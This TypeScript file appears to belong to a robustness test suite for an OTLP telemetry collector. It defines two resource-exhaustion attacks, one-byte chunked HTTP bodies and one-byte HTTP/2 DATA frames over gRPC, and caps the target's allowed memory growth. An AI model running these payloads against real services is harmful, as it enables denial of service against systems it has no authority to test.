/** Bodies in pieces of one byte: each piece costs its receiver many times what it brings. */
import {addressOf, attack} from './attack.ts';
import {callHeaders, connectRaw, endHeaders, exportPath, http2Frame, http2Preface} from './http2-frames.ts';

export const httpChunks = attack({
  name: 'http-one-byte-chunks',
  about: '4 chunked bodies of 8 MB over OTLP/HTTP, one byte a chunk',
  maxGrowthMib: 150,
  async run(target) {
    const bytes = target.amount(8_000_000, 1_500_000);
    const bodies = Array.from({length: target.amount(4, 1)}, async () => {
      const connection = connectRaw(addressOf(target, 'otlp_http'));
      await connection.send(
        'POST /v1/traces HTTP/1.1\r\nHost: a\r\nContent-Type: application/x-protobuf\r\nTransfer-Encoding: chunked\r\n\r\n',
      );
      const piece = '1\r\nx\r\n'.repeat(10_000);
      for (let sent = 0; sent < bytes && !connection.gone; sent += 10_000) await connection.send(piece);
      connection.socket.destroy();
    });
    await Promise.all(bodies);
    return [];
  },
});

export const grpcFrames = attack({
  name: 'grpc-one-byte-frames',
  about: '8 calls of 3.9 MiB over OTLP/gRPC on one connection, one byte a DATA frame',
  maxGrowthMib: 150,
  async run(target) {
    const calls = target.amount(8, 4);
    const bytes = target.amount(3.9, 0.4) * 2 ** 20;
    const connection = connectRaw(addressOf(target, 'otlp_grpc'));
    await connection.send(http2Preface());
    const streams = Array.from({length: calls}, (_, i) => 2 * i + 1);
    const prefix = Buffer.alloc(5);
    prefix.writeUInt32BE(4 * 2 ** 20 - 10, 1);
    for (const stream of streams) {
      await connection.send(http2Frame('headers', endHeaders, stream, callHeaders(exportPath)));
      await connection.send(http2Frame('data', 0, stream, prefix));
    }
    const one = streams.map((stream) => http2Frame('data', 0, stream, Buffer.from('x')));
    const piece = Buffer.concat(Array.from({length: 1000}, () => one).flat());
    for (let sent = 0; sent < bytes && !connection.gone; sent += 1000) await connection.send(piece);
    connection.socket.destroy();
    return [];
  },
});
